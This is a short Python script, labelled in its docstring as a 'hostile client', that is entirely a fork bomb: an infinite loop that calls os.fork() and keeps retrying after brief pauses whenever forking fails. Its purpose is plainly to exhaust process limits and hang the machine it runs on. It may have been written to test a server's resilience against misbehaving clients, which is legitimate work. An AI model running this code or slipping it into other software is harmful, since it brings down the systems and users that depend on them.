"""Hostile client: forks without end before it connects."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
